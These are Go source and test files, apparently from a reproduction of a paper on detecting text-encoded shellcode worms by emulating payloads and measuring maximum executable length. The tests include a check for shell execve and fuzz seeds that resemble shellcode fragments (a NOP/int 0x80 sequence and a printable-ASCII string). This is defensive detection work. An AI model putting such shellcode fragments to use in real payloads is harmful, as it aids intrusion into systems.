
// ShellSpawned reports whether the run reached an execve of a shell.
func (o *Outcome) ShellSpawned() bool {
	if o.Kind != StopExecve {
		return false
	}
	for _, s := range o.Syscalls {
		if s.Number == SysExecve && containsSh(s.Path) {
			return true
		}
	}
	return false
}

func containsSh(path string) bool {
	// Accept /bin/sh, /bin//sh and similar spellings.
	for i := 0; i+1 < len(path); i++ {
		if path[i] == 's' && path[i+1] == 'h' {
			return true
		}
	}
	return false
}

// Memory is a single contiguous mapped window of the 32-bit address
// space, as a stack-smashed buffer would be.
type Memory struct {
	base uint32
	data []byte
}

// NewMemory maps size bytes at base. Size must be positive and the window
// must not wrap the 32-bit space.
func NewMemory(base uint32, size int) (*Memory, error) {
	if size <= 0 || uint64(base)+uint64(size) > 1<<32 {
		return nil, fmt.Errorf("%w: window base=%#x size=%d", ErrBadConfig, base, size)
	}
	return &Memory{base: base, data: make([]byte, size)}, nil
}

// Base returns the window's lowest mapped address.
func (m *Memory) Base() uint32 { return m.base }

// Size returns the window length in bytes.
func (m *Memory) Size() int { return len(m.data) }

// Contains reports whether [addr, addr+n) lies inside the window.
func (m *Memory) Contains(addr uint32, n int) bool {
	if n < 0 {
		return false
	}
	off := int64(addr) - int64(m.base)
	return off >= 0 && off+int64(n) <= int64(len(m.data))
}

// Load copies p into the window at addr. It fails if the range is
// unmapped.
func (m *Memory) Load(addr uint32, p []byte) error {
	if !m.Contains(addr, len(p)) {
		return fmt.Errorf("%w: load of %d bytes at %#x outside window", ErrBadConfig, len(p), addr)
	}
	copy(m.data[addr-m.base:], p)
	return nil
}

// Bytes returns the backing slice (shared, for inspection in tests).
func (m *Memory) Bytes() []byte { return m.data }

func (m *Memory) read(addr uint32, n int) ([]byte, bool) {
	if !m.Contains(addr, n) {
		return nil, false
	}
	off := addr - m.base
	return m.data[off : off+uint32(n)], true
}

func (m *Memory) readU32(addr uint32) (uint32, bool) {
	b, ok := m.read(addr, 4)
	if !ok {
		return 0, false
	}
	return uint32(b[0]) | uint32(b[1])<<8 | uint32(b[2])<<16 | uint32(b[3])<<24, true
}

func (m *Memory) readU16(addr uint32) (uint16, bool) {
	b, ok := m.read(addr, 2)
	if !ok {
		return 0, false
	}
	return uint16(b[0]) | uint16(b[1])<<8, true
}

func (m *Memory) readU8(addr uint32) (byte, bool) {
	b, ok := m.read(addr, 1)
	if !ok {
		return 0, false
	}
	return b[0], true
}

func (m *Memory) writeU32(addr, v uint32) bool {
	b, ok := m.read(addr, 4)
	if !ok {
		return false
	}
	b[0], b[1], b[2], b[3] = byte(v), byte(v>>8), byte(v>>16), byte(v>>24)
	return true
}

func (m *Memory) writeU16(addr uint32, v uint16) bool {
	b, ok := m.read(addr, 2)
	if !ok {
		return false
	}
	b[0], b[1] = byte(v), byte(v>>8)
	return true
}

func (m *Memory) writeU8(addr uint32, v byte) bool {
	b, ok := m.read(addr, 1)
	if !ok {
		return false
	}
	b[0] = v
	return true
}

// cstring reads a NUL-terminated string at addr (bounded by the window).
func (m *Memory) cstring(addr uint32) string {
	var out []byte
	for {
		b, ok := m.readU8(addr)
		if !ok || b == 0 {
			break
		}
		out = append(out, b)
		addr++
		if len(out) > 4096 {
			break
		}
	}
	return string(out)
}

// CPU is the emulated processor state.
type CPU struct {
	// Regs holds the eight GPRs indexed by x86.Reg encoding order.
	Regs [8]uint32
	// EIP is the instruction pointer.
	EIP uint32
	// Flags.
	CF, ZF, SF, OF, PF, AF, DF bool
	// Mem is the single mapped window.
	Mem *Memory
	// WrongSegs configures which segment overrides fault on memory
	// access, mirroring the detector's rule. Nil means the default
	// (CS/ES/FS/GS fault).
	WrongSegs map[x86.Seg]bool

	syscalls []Syscall
	steps    int
}

// New returns a CPU with the given memory window, ESP parked at the top
// of the window, and the default wrong-segment rule.
func New(mem *Memory) (*CPU, error) {
	if mem == nil {
		return nil, fmt.Errorf("%w: nil memory", ErrBadConfig)
	}
	c := &CPU{Mem: mem}
	c.Regs[x86.ESP] = mem.base + uint32(mem.Size())
	c.WrongSegs = map[x86.Seg]bool{
		x86.SegCS: true, x86.SegES: true, x86.SegFS: true, x86.SegGS: true,
	}
	return c, nil
}

// Reg returns the value of a GPR.
func (c *CPU) Reg(r x86.Reg) uint32 { return c.Regs[r] }

// SetReg sets a GPR.
func (c *CPU) SetReg(r x86.Reg, v uint32) { c.Regs[r] = v }

// Run executes until a stop condition, retiring at most maxSteps
// instructions (DefaultMaxSteps if maxSteps <= 0).
func (c *CPU) Run(maxSteps int) Outcome {
	if maxSteps <= 0 {
		maxSteps = DefaultMaxSteps
	}
	for c.steps < maxSteps {
		stop := c.step()
		if stop != nil {
			stop.Syscalls = c.syscalls
			stop.Steps = c.steps
			return *stop
		}
	}
	return Outcome{Kind: StopMaxSteps, Syscalls: c.syscalls, Steps: c.steps}
}

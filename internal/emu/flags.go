package emu

import "repro/internal/x86"

// alu performs a two-operand arithmetic/logic operation of the given
// width, updates the flags, and returns the (masked) result. CMP behaves
// like SUB and TEST like AND for flag purposes; callers skip write-back.
func (c *CPU) alu(op x86.Op, dst, src uint32, size int) uint32 {
	bits := uint(size * 8)
	mask := uint32(0xFFFFFFFF)
	if bits < 32 {
		mask = 1<<bits - 1
	}
	dst &= mask
	src &= mask
	sign := uint32(1) << (bits - 1)

	var res uint32
	switch op {
	case x86.OpADD:
		res = (dst + src&mask) & mask
		c.CF = uint64(dst)+uint64(src&mask) > uint64(mask)
		c.OF = (dst^src)&sign == 0 && (dst^res)&sign != 0
		c.AF = (dst^src^res)&0x10 != 0
	case x86.OpADC:
		carry := boolBit(c.CF)
		full := uint64(dst) + uint64(src&mask) + uint64(carry)
		res = uint32(full) & mask
		c.CF = full > uint64(mask)
		c.OF = (dst^src)&sign == 0 && (dst^res)&sign != 0
		c.AF = (dst^src^res)&0x10 != 0
	case x86.OpSUB, x86.OpCMP:
		res = dst - src&mask
		res &= mask
		c.CF = dst < src&mask
		c.OF = (dst^src)&sign != 0 && (dst^res)&sign != 0
		c.AF = (dst^src^res)&0x10 != 0
	case x86.OpSBB:
		borrow := boolBit(c.CF)
		srcM := src & mask
		c.OF = (dst^srcM)&sign != 0 && (dst^((dst-srcM-borrow)&mask))&sign != 0
		c.CF = uint64(dst) < uint64(srcM)+uint64(borrow)
		res = (dst - srcM - borrow) & mask
		c.AF = (dst^srcM^res)&0x10 != 0
	case x86.OpAND, x86.OpTEST:
		res = dst & src & mask
		c.CF, c.OF = false, false
	case x86.OpOR:
		res = (dst | src) & mask
		c.CF, c.OF = false, false
	case x86.OpXOR:
		res = (dst ^ src) & mask
		c.CF, c.OF = false, false
	}
	c.setSZP(res, size)
	return res
}

// incDecFlags updates flags for INC/DEC (which preserve CF) given the
// operand value before the operation.
func (c *CPU) incDecFlags(v uint32, size int, isDec bool) {
	bits := uint(size * 8)
	mask := uint32(0xFFFFFFFF)
	if bits < 32 {
		mask = 1<<bits - 1
	}
	sign := uint32(1) << (bits - 1)
	v &= mask
	var res uint32
	if isDec {
		res = (v - 1) & mask
		c.OF = v == sign // most negative value decremented wraps
	} else {
		res = (v + 1) & mask
		c.OF = res == sign // overflow into the sign bit
	}
	c.AF = (v^1^res)&0x10 != 0
	c.setSZP(res, size)
}

// setSZP sets the sign, zero, and parity flags from a result.
func (c *CPU) setSZP(res uint32, size int) {
	bits := uint(size * 8)
	mask := uint32(0xFFFFFFFF)
	if bits < 32 {
		mask = 1<<bits - 1
	}
	res &= mask
	c.ZF = res == 0
	c.SF = res&(1<<(bits-1)) != 0
	// Parity covers the low byte only, even parity sets PF.
	b := byte(res)
	b ^= b >> 4
	b ^= b >> 2
	b ^= b >> 1
	c.PF = b&1 == 0
}

// cond evaluates a condition-code nibble against the flags.
func (c *CPU) cond(cc byte) bool {
	var r bool
	switch cc >> 1 {
	case 0: // O
		r = c.OF
	case 1: // B / C
		r = c.CF
	case 2: // E / Z
		r = c.ZF
	case 3: // BE
		r = c.CF || c.ZF
	case 4: // S
		r = c.SF
	case 5: // P
		r = c.PF
	case 6: // L
		r = c.SF != c.OF
	case 7: // LE
		r = c.ZF || c.SF != c.OF
	}
	if cc&1 == 1 {
		return !r
	}
	return r
}

// eflags bit positions used by PUSHF/POPF/SAHF/LAHF.
const (
	flagCF = 1 << 0
	flagPF = 1 << 2
	flagAF = 1 << 4
	flagZF = 1 << 6
	flagSF = 1 << 7
	flagDF = 1 << 10
	flagOF = 1 << 11
	// flagFixed is the always-set bit 1.
	flagFixed = 1 << 1
	// flagIF reads as set for user code.
	flagIF = 1 << 9
)

// flagsWord packs the flags into an EFLAGS image.
func (c *CPU) flagsWord() uint32 {
	v := uint32(flagFixed | flagIF)
	if c.CF {
		v |= flagCF
	}
	if c.PF {
		v |= flagPF
	}
	if c.AF {
		v |= flagAF
	}
	if c.ZF {
		v |= flagZF
	}
	if c.SF {
		v |= flagSF
	}
	if c.DF {
		v |= flagDF
	}
	if c.OF {
		v |= flagOF
	}
	return v
}

// setFlagsWord unpacks an EFLAGS image into the flag booleans.
func (c *CPU) setFlagsWord(v uint32) {
	c.CF = v&flagCF != 0
	c.PF = v&flagPF != 0
	c.AF = v&flagAF != 0
	c.ZF = v&flagZF != 0
	c.SF = v&flagSF != 0
	c.DF = v&flagDF != 0
	c.OF = v&flagOF != 0
}

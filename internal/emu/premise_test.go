package emu

import (
	"testing"

	"repro/internal/corpus"
	"repro/internal/x86"
)

// TestBenignTextCrashesFast validates the paper's core premise with the
// concrete emulator rather than abstract rules: jumping a thread into a
// benign text stream kills the process almost immediately — invalid
// instructions are "dispersed abundantly" (Section 2.4). Every benign
// case, executed from its first byte, must fault within a small number
// of retired instructions, and the average must sit far below the worm
// band.
func TestBenignTextCrashesFast(t *testing.T) {
	cases, err := corpus.Dataset(81, 30, 4000)
	if err != nil {
		t.Fatal(err)
	}
	var totalSteps int
	maxSteps := 0
	for i, c := range cases {
		mem, err := NewMemory(DefaultBase, 1<<16)
		if err != nil {
			t.Fatal(err)
		}
		cpu, err := New(mem)
		if err != nil {
			t.Fatal(err)
		}
		start := mem.Base() + 0x2000
		if err := mem.Load(start, c.Data); err != nil {
			t.Fatal(err)
		}
		cpu.EIP = start
		cpu.SetReg(x86.ESP, start) // the stack-smash contract
		out := cpu.Run(100000)
		if out.Kind != StopFault {
			t.Fatalf("case %d: benign text reached %v (syscalls %v)", i, out.Kind, out.Syscalls)
		}
		totalSteps += out.Steps
		if out.Steps > maxSteps {
			maxSteps = out.Steps
		}
	}
	mean := float64(totalSteps) / float64(len(cases))
	t.Logf("benign text executed concretely: mean %.1f steps to fault, max %d", mean, maxSteps)
	if mean > 60 {
		t.Errorf("benign text survives %.1f instructions on average; premise expects a fast crash", mean)
	}
	if maxSteps > 400 {
		t.Errorf("a benign case survived %d concrete instructions", maxSteps)
	}
}

// TestBenignTextNeverSpawnsShell is the complementary safety property:
// no benign case reaches an execve, from any of several entry offsets.
func TestBenignTextNeverSpawnsShell(t *testing.T) {
	cases, err := corpus.Dataset(82, 10, 4000)
	if err != nil {
		t.Fatal(err)
	}
	for i, c := range cases {
		for _, entry := range []uint32{0, 1, 97, 1003, 3999} {
			mem, err := NewMemory(DefaultBase, 1<<16)
			if err != nil {
				t.Fatal(err)
			}
			cpu, err := New(mem)
			if err != nil {
				t.Fatal(err)
			}
			start := mem.Base() + 0x2000
			if err := mem.Load(start, c.Data); err != nil {
				t.Fatal(err)
			}
			cpu.EIP = start + entry
			cpu.SetReg(x86.ESP, start)
			out := cpu.Run(100000)
			if out.ShellSpawned() {
				t.Fatalf("case %d entry %d: benign text spawned a shell", i, entry)
			}
		}
	}
}

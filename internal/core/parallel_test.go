package core

import (
	"context"
	"testing"
	"time"
)

func TestScanBatchMatchesSequential(t *testing.T) {
	d := buildDetector(t)
	batch := benignCases(t, 61, 12)
	batch = append(batch, wormCases(t, 4)...)

	seq, err := d.ScanAll(batch)
	if err != nil {
		t.Fatal(err)
	}
	par, err := d.ScanBatch(context.Background(), batch, 4)
	if err != nil {
		t.Fatal(err)
	}
	if len(par) != len(seq) {
		t.Fatalf("length %d vs %d", len(par), len(seq))
	}
	for i := range seq {
		if par[i].MEL != seq[i].MEL || par[i].Malicious != seq[i].Malicious {
			t.Errorf("payload %d: parallel %+v vs sequential %+v", i, par[i], seq[i])
		}
	}
}

func TestScanBatchWorkerDefaults(t *testing.T) {
	d := buildDetector(t)
	batch := benignCases(t, 62, 3)
	// workers <= 0 → GOMAXPROCS; workers > len → clamped.
	for _, workers := range []int{0, -1, 100} {
		vs, err := d.ScanBatch(context.Background(), batch, workers)
		if err != nil {
			t.Fatalf("workers=%d: %v", workers, err)
		}
		if len(vs) != len(batch) {
			t.Fatalf("workers=%d: %d verdicts", workers, len(vs))
		}
	}
}

func TestScanBatchEmpty(t *testing.T) {
	d := buildDetector(t)
	vs, err := d.ScanBatch(context.Background(), nil, 4)
	if err != nil || vs != nil {
		t.Errorf("empty batch: %v, %v", vs, err)
	}
}

func TestScanBatchPropagatesError(t *testing.T) {
	d := buildDetector(t)
	batch := benignCases(t, 63, 4)
	batch[2] = nil // empty payload → scan error
	if _, err := d.ScanBatch(context.Background(), batch, 2); err == nil {
		t.Error("batch with empty payload should fail")
	}
}

func TestScanBatchCancellation(t *testing.T) {
	d := buildDetector(t)
	// A big batch with an already-cancelled context must return promptly
	// with the context error.
	batch := benignCases(t, 64, 50)
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	start := time.Now()
	_, err := d.ScanBatch(ctx, batch, 2)
	if err == nil {
		t.Error("cancelled context should fail")
	}
	if time.Since(start) > 5*time.Second {
		t.Error("cancellation did not short-circuit")
	}
}

func TestScanBatchNilContext(t *testing.T) {
	d := buildDetector(t)
	if _, err := d.ScanBatch(nil, benignCases(t, 65, 1), 1); err == nil { //nolint:staticcheck
		t.Error("nil context should fail")
	}
}

func TestScanBatchNilDetector(t *testing.T) {
	var d *Detector
	if _, err := d.ScanBatch(context.Background(), nil, 1); err == nil {
		t.Error("nil detector should fail")
	}
}

package core

import (
	"testing"
)

// FuzzScan drives the full detector pipeline with arbitrary payloads: it
// must never panic and its verdict fields must be internally consistent.
func FuzzScan(f *testing.F) {
	f.Add([]byte("GET /index.html HTTP/1.1"))
	f.Add([]byte{0x90, 0x90, 0xCD, 0x80})
	f.Add([]byte("TYQX----hAAAA^h@@@@_!q !y 1A "))
	f.Add(make([]byte, 64))
	det, err := New()
	if err != nil {
		f.Fatal(err)
	}
	f.Fuzz(func(t *testing.T, data []byte) {
		v, err := det.Scan(data)
		if err != nil {
			if len(data) != 0 {
				t.Fatalf("scan error on non-empty payload: %v", err)
			}
			return
		}
		if v.MEL < 0 || v.MEL > len(data) {
			t.Fatalf("MEL %d out of range for %d bytes", v.MEL, len(data))
		}
		if v.Threshold <= 0 {
			t.Fatalf("non-positive threshold %v", v.Threshold)
		}
		if v.Malicious != (float64(v.MEL) > v.Threshold) {
			t.Fatal("verdict inconsistent with MEL and threshold")
		}
		if v.BestStart < 0 || v.BestStart >= len(data) {
			t.Fatalf("best start %d out of range", v.BestStart)
		}
	})
}

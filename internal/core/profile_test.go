package core

import (
	"bytes"
	"strings"
	"testing"

	"repro/internal/corpus"
)

func TestProfileRoundTrip(t *testing.T) {
	d := buildDetector(t, WithAlpha(0.02))
	if err := d.Calibrate(corpus.Concat(mustDataset(t, 71, 10, 4000))); err != nil {
		t.Fatal(err)
	}
	p, err := d.ExportProfile()
	if err != nil {
		t.Fatal(err)
	}
	var buf bytes.Buffer
	if _, err := p.WriteTo(&buf); err != nil {
		t.Fatal(err)
	}
	loaded, err := ReadProfile(&buf)
	if err != nil {
		t.Fatal(err)
	}
	d2, err := NewFromProfile(loaded)
	if err != nil {
		t.Fatal(err)
	}
	// Verdicts must be identical.
	payloads := benignCases(t, 72, 5)
	payloads = append(payloads, wormCases(t, 2)...)
	for i, pl := range payloads {
		v1, err := d.Scan(pl)
		if err != nil {
			t.Fatal(err)
		}
		v2, err := d2.Scan(pl)
		if err != nil {
			t.Fatal(err)
		}
		if v1.MEL != v2.MEL || v1.Malicious != v2.Malicious || v1.Threshold != v2.Threshold {
			t.Errorf("payload %d: original %+v vs restored %+v", i, v1, v2)
		}
	}
}

func TestProfileValidation(t *testing.T) {
	d := buildDetector(t)
	p, err := d.ExportProfile()
	if err != nil {
		t.Fatal(err)
	}
	good := *p
	cases := []struct {
		name   string
		mutate func(*Profile)
	}{
		{"bad version", func(p *Profile) { p.Version = 99 }},
		{"bad alpha", func(p *Profile) { p.Alpha = 0 }},
		{"short table", func(p *Profile) { p.Frequencies = p.Frequencies[:100] }},
		{"negative frequency", func(p *Profile) {
			p.Frequencies = append([]float64(nil), good.Frequencies...)
			p.Frequencies[0] = -1
		}},
		{"unnormalized", func(p *Profile) {
			p.Frequencies = make([]float64, 256)
			p.Frequencies[0] = 0.5
		}},
		{"bad segment", func(p *Profile) { p.Rules.WrongSegs = []int{99} }},
	}
	for _, c := range cases {
		bad := good
		bad.Frequencies = append([]float64(nil), good.Frequencies...)
		bad.Rules.WrongSegs = append([]int(nil), good.Rules.WrongSegs...)
		c.mutate(&bad)
		if err := bad.Validate(); err == nil {
			t.Errorf("%s: validation should fail", c.name)
		}
		if _, err := NewFromProfile(&bad); err == nil {
			t.Errorf("%s: NewFromProfile should fail", c.name)
		}
	}
	if _, err := NewFromProfile(nil); err == nil {
		t.Error("nil profile should fail")
	}
}

func TestProfileExportRestrictions(t *testing.T) {
	var nilDet *Detector
	if _, err := nilDet.ExportProfile(); err == nil {
		t.Error("nil detector should fail")
	}
	perInput := buildDetector(t, WithPerInputCalibration())
	if _, err := perInput.ExportProfile(); err == nil {
		t.Error("per-input detector should fail to export")
	}
}

func TestReadProfileGarbage(t *testing.T) {
	if _, err := ReadProfile(strings.NewReader("not json")); err == nil {
		t.Error("garbage should fail")
	}
	if _, err := ReadProfile(strings.NewReader(`{"version":1}`)); err == nil {
		t.Error("incomplete profile should fail")
	}
}

package core

import (
	"context"
	"errors"
	"sync"
	"testing"

	"repro/internal/mel"
)

// TestObserverSeesEveryScan: the observer hook must fire once per Scan
// with the payload size and the verdict the caller received, including
// through the batch path.
func TestObserverSeesEveryScan(t *testing.T) {
	d := buildDetector(t)
	payloads := benignCases(t, 11, 4)

	var mu sync.Mutex
	var stats []ScanStats
	d.SetObserver(func(s ScanStats) {
		mu.Lock()
		stats = append(stats, s)
		mu.Unlock()
	})

	v, err := d.Scan(payloads[0])
	if err != nil {
		t.Fatal(err)
	}
	if _, err := d.ScanBatch(context.Background(), payloads[1:], 2); err != nil {
		t.Fatal(err)
	}
	mu.Lock()
	defer mu.Unlock()
	if len(stats) != 4 {
		t.Fatalf("observer fired %d times, want 4", len(stats))
	}
	if stats[0].Bytes != len(payloads[0]) || stats[0].Verdict != v || stats[0].Err != nil {
		t.Fatalf("first observation = %+v, want verdict %+v", stats[0], v)
	}
	if stats[0].Elapsed <= 0 {
		t.Fatalf("elapsed = %v, want > 0", stats[0].Elapsed)
	}
}

// TestObserverSeesErrors: failed scans report through the hook too.
func TestObserverSeesErrors(t *testing.T) {
	d := buildDetector(t)
	var got ScanStats
	d.SetObserver(func(s ScanStats) { got = s })
	if _, err := d.Scan(nil); !errors.Is(err, ErrEmptyPayload) {
		t.Fatalf("empty scan err = %v", err)
	}
	if !errors.Is(got.Err, ErrEmptyPayload) {
		t.Fatalf("observed err = %v, want ErrEmptyPayload", got.Err)
	}
	// Removing the observer stops the reporting.
	d.SetObserver(nil)
	got = ScanStats{}
	if _, err := d.Scan(benignCases(t, 12, 1)[0]); err != nil {
		t.Fatal(err)
	}
	if got.Bytes != 0 {
		t.Fatal("observer fired after removal")
	}
}

// TestStreamScannerRejectsOversizedWindow: windows beyond the engine's
// stream ceiling are refused at construction with the typed error —
// never discovered (or truncated) mid-stream.
func TestStreamScannerRejectsOversizedWindow(t *testing.T) {
	d := buildDetector(t)
	if _, err := NewStreamScanner(d, MaxWindow+1, 1); !errors.Is(err, ErrWindowTooLarge) {
		t.Fatalf("window MaxWindow+1: err = %v, want ErrWindowTooLarge", err)
	}
	// The boundary itself is accepted (construction only sizes the carry
	// buffer capacity lazily via append, so no giant allocation happens
	// here — but MaxWindow is ~2 GiB, so exercise a modest valid window
	// instead and only the constructor check for the ceiling).
	if _, err := NewStreamScanner(d, DefaultWindow, DefaultStride); err != nil {
		t.Fatalf("default window rejected: %v", err)
	}
	// The ceiling is exactly the engine's stream limit, so a window the
	// constructor accepts can never trip mel.ErrStreamTooLarge mid-scan.
	if MaxWindow != mel.MaxStreamLen {
		t.Fatalf("MaxWindow = %d, want mel.MaxStreamLen %d", MaxWindow, mel.MaxStreamLen)
	}
}

// TestStreamScannerFunc: a custom scan function receives exactly the
// windows the detector path would, and its verdicts drive the alerts.
func TestStreamScannerFunc(t *testing.T) {
	var sizes []int
	scan := func(p []byte) (Verdict, error) {
		sizes = append(sizes, len(p))
		return Verdict{Malicious: len(sizes) == 2, MEL: len(sizes)}, nil
	}
	s, err := NewStreamScannerFunc(scan, 8, 4)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := s.Write(make([]byte, 14)); err != nil {
		t.Fatal(err)
	}
	if err := s.Flush(); err != nil {
		t.Fatal(err)
	}
	// 14 bytes, window 8, stride 4: full windows at 0 and 4, trailing 6.
	want := []int{8, 8, 6}
	if len(sizes) != len(want) {
		t.Fatalf("scan sizes = %v, want %v", sizes, want)
	}
	for i := range want {
		if sizes[i] != want[i] {
			t.Fatalf("scan sizes = %v, want %v", sizes, want)
		}
	}
	alerts := s.Alerts()
	if len(alerts) != 1 || alerts[0].Offset != 4 {
		t.Fatalf("alerts = %+v, want one at offset 4", alerts)
	}
}

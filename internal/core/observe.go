package core

import (
	"sync/atomic"
	"time"
)

// ScanStats describes one completed (or failed) Scan for telemetry.
type ScanStats struct {
	// Bytes is the payload length.
	Bytes int
	// Elapsed is the wall time the scan took, parameter derivation
	// included.
	Elapsed time.Duration
	// Verdict is the scan result; zero-valued when Err is non-nil.
	Verdict Verdict
	// Err is the scan error, if any.
	Err error
}

// ScanObserver receives per-scan telemetry. Implementations must be
// safe for concurrent use: Scan is called from many goroutines
// (ScanBatch workers, stream scanners, the scan service's pool), and
// every one of them reports through the same observer.
type ScanObserver func(ScanStats)

// SetObserver installs (or, with nil, removes) the detector's scan
// observer. Every Scan — direct, batch, or windowed through a
// StreamScanner — reports to it. The hook costs two time.Now calls per
// scan when set and a single atomic load when not.
func (d *Detector) SetObserver(o ScanObserver) {
	if o == nil {
		d.observer.Store(nil)
		return
	}
	d.observer.Store(&o)
}

// observerPtr is the atomic holder type for the observer hook.
type observerPtr = atomic.Pointer[ScanObserver]

// Package core assembles the paper's deployable artifact: a text-malware
// detector whose MEL threshold is derived automatically from character
// frequencies and a user-chosen false-positive bound α — "easily
// deployable, signature-free, requires no parameter tuning, has user-
// configurable detection sensitivity" (Section 7).
//
// The detector is calibrated once, from a pre-set character-frequency
// table or a benign training sample (Section 5.2 allows either), and
// then scans payloads: estimate n from the payload size, take p from the
// calibration, derive τ(α, n, p), measure the payload's MEL by
// pseudo-execution, and flag it if MEL > τ.
package core

import (
	"context"
	"errors"
	"fmt"
	"sync"
	"time"

	"repro/internal/corpus"
	"repro/internal/mel"
	"repro/internal/melmodel"
	"repro/internal/telemetry/tracing"
	"repro/internal/textins"
)

// Configuration errors.
var (
	ErrBadAlpha      = errors.New("core: alpha must be in (0, 1)")
	ErrNotCalibrated = errors.New("core: detector not calibrated")
	ErrEmptyPayload  = errors.New("core: empty payload")
)

// Detector is a MEL-threshold text-malware detector.
type Detector struct {
	alpha    float64
	rules    mel.Rules
	mode     mel.Mode
	engine   *mel.Engine
	freq     [256]float64
	perInput bool
	ready    bool

	// calib holds the frequency-dependent model parameters, computed once
	// per calibration. It is nil when the table is unsuitable (the error
	// then surfaces on Scan, exactly as the uncached path reported it) and
	// unused under per-input calibration.
	calib *melmodel.Calibration
	// tauCache memoizes (Params, τ) by payload length: stream windows are
	// all the same size, so threshold derivation is paid once per size.
	tauMu    sync.RWMutex
	tauCache map[int]tauEntry

	// observer, when set, receives per-scan telemetry (see SetObserver).
	observer observerPtr
}

// tauEntry is one cached threshold derivation.
type tauEntry struct {
	params melmodel.Params
	tau    float64
}

// tauCacheLimit bounds the threshold cache; beyond this many distinct
// payload sizes, further derivations are computed but not stored.
const tauCacheLimit = 4096

// Option configures a Detector.
type Option func(*Detector) error

// WithAlpha sets the false-positive bound α (default 0.01, the paper's
// setting).
func WithAlpha(alpha float64) Option {
	return func(d *Detector) error {
		if alpha <= 0 || alpha >= 1 {
			return ErrBadAlpha
		}
		d.alpha = alpha
		return nil
	}
}

// WithRules overrides the invalidity rules (default: the full DAWN set).
func WithRules(rules mel.Rules) Option {
	return func(d *Detector) error {
		d.rules = rules
		return nil
	}
}

// WithMode overrides the scan mode (default: sequential, the
// model-faithful measurement).
func WithMode(mode mel.Mode) Option {
	return func(d *Detector) error {
		d.mode = mode
		return nil
	}
}

// WithPresetFrequencies calibrates from a pre-set character table, e.g.
// corpus.EnglishFreq().
func WithPresetFrequencies(freq [256]float64) Option {
	return func(d *Detector) error {
		d.freq = freq
		d.ready = true
		return nil
	}
}

// WithPerInputCalibration estimates p from each scanned payload's own
// character frequencies (the paper's "linear sweep of the input
// character stream" fallback). Note that this hands the attacker control
// over p: a worm built from characters that the rules never invalidate
// drives its own threshold up. Prefer preset or training calibration for
// adversarial settings.
func WithPerInputCalibration() Option {
	return func(d *Detector) error {
		d.perInput = true
		d.ready = true
		return nil
	}
}

// New builds a detector. Without a calibration option it defaults to the
// English-prose preset table.
func New(opts ...Option) (*Detector, error) {
	d := &Detector{
		alpha: 0.01,
		rules: mel.DAWN(),
		mode:  mel.ModeSequential,
	}
	for _, opt := range opts {
		if err := opt(d); err != nil {
			return nil, err
		}
	}
	if !d.ready {
		d.freq = corpus.EnglishFreq()
		d.ready = true
	}
	d.engine = mel.NewEngineMode(d.rules, d.mode)
	d.recalibrate()
	return d, nil
}

// recalibrate rebuilds the cached frequency-dependent parameters and
// clears the threshold cache. A table NewCalibration rejects leaves
// calib nil; Scan then reports the error through the uncached path.
func (d *Detector) recalibrate() {
	d.calib = nil
	if !d.perInput {
		if cal, err := melmodel.NewCalibration(d.freq); err == nil {
			d.calib = cal
		}
	}
	d.tauMu.Lock()
	d.tauCache = nil
	d.tauMu.Unlock()
}

// threshold returns the model parameters and τ for a payload of n bytes,
// from the cache when possible.
func (d *Detector) threshold(n int) (melmodel.Params, float64, error) {
	d.tauMu.RLock()
	e, ok := d.tauCache[n]
	d.tauMu.RUnlock()
	if ok {
		return e.params, e.tau, nil
	}
	params, err := d.calib.Params(n)
	if err != nil {
		return melmodel.Params{}, 0, fmt.Errorf("scan: estimate parameters: %w", err)
	}
	tau, err := melmodel.Threshold(d.alpha, params.N, params.P)
	if err != nil {
		return melmodel.Params{}, 0, fmt.Errorf("scan: derive threshold: %w", err)
	}
	d.tauMu.Lock()
	if d.tauCache == nil {
		d.tauCache = make(map[int]tauEntry)
	}
	if len(d.tauCache) < tauCacheLimit {
		d.tauCache[n] = tauEntry{params: params, tau: tau}
	}
	d.tauMu.Unlock()
	return params, tau, nil
}

// Calibrate sets the frequency table from a benign training sample.
func (d *Detector) Calibrate(training []byte) error {
	freq, err := corpus.Frequencies(training)
	if err != nil {
		return fmt.Errorf("calibrate: %w", err)
	}
	d.freq = freq
	d.perInput = false
	d.ready = true
	d.recalibrate()
	return nil
}

// Alpha returns the configured false-positive bound.
func (d *Detector) Alpha() float64 { return d.alpha }

// Verdict is the result of scanning one payload.
type Verdict struct {
	// Malicious is true when MEL exceeds the derived threshold.
	Malicious bool
	// MEL is the measured maximum executable length.
	MEL int
	// Threshold is the derived τ for this payload's size.
	Threshold float64
	// Params are the model parameters used for the threshold.
	Params melmodel.Params
	// TextOnly reports whether the payload is pure keyboard-enterable
	// text (the channel the detector is designed for).
	TextOnly bool
	// BestStart is the offset where the longest path begins.
	BestStart int
	// TraceID identifies the per-scan trace this verdict was produced
	// under, zero when the scan was untraced. It flows with the verdict
	// through the stream scanner and proxy so alerts can be chased back
	// to a flight-recorder entry.
	TraceID tracing.TraceID

	// Content-pipeline fields, populated only when the scan ran through
	// the content pipeline (internal/content); zero otherwise.
	//
	// ViewIndex is the decoded view this verdict came from: 0 for the
	// raw payload, i>0 for the i-th view the decoder yielded.
	ViewIndex int
	// DecodeChain names the decode layers peeled to reach that view,
	// outermost first ("gzip>base64"); empty for the raw payload.
	DecodeChain string
	// TriageScore is the triage stage's suspicion score for the raw
	// payload, in [0,1].
	TriageScore float64
	// TriageCleared reports that the triage stage cleared the payload
	// without invoking the MEL pass (MEL, Params, and BestStart are then
	// zero).
	TriageCleared bool
}

// Scan analyzes one payload.
func (d *Detector) Scan(payload []byte) (Verdict, error) {
	return d.ScanTraced(payload, nil)
}

// ScanTraced is Scan with per-stage instrumentation: threshold
// derivation, the engine's decode pass, and the DP are timed onto tr,
// and the verdict summary (MEL, τ, maliciousness) is stamped on the
// trace. Scan is exactly ScanTraced(payload, nil).
func (d *Detector) ScanTraced(payload []byte, tr *tracing.Trace) (Verdict, error) {
	if d == nil || d.engine == nil {
		return Verdict{}, ErrNotCalibrated
	}
	return d.observed(payload, tr, d.engine.ScanTraced)
}

// observed runs one scan through the observer hook (when set), so both
// the standalone path and the window-session path feed the same
// per-scan telemetry.
func (d *Detector) observed(payload []byte, tr *tracing.Trace, engineScan func([]byte, *tracing.Trace) (mel.Result, error)) (Verdict, error) {
	if obs := d.observer.Load(); obs != nil {
		start := time.Now()
		v, err := d.scan(payload, tr, engineScan)
		(*obs)(ScanStats{Bytes: len(payload), Elapsed: time.Since(start), Verdict: v, Err: err})
		return v, err
	}
	return d.scan(payload, tr, engineScan)
}
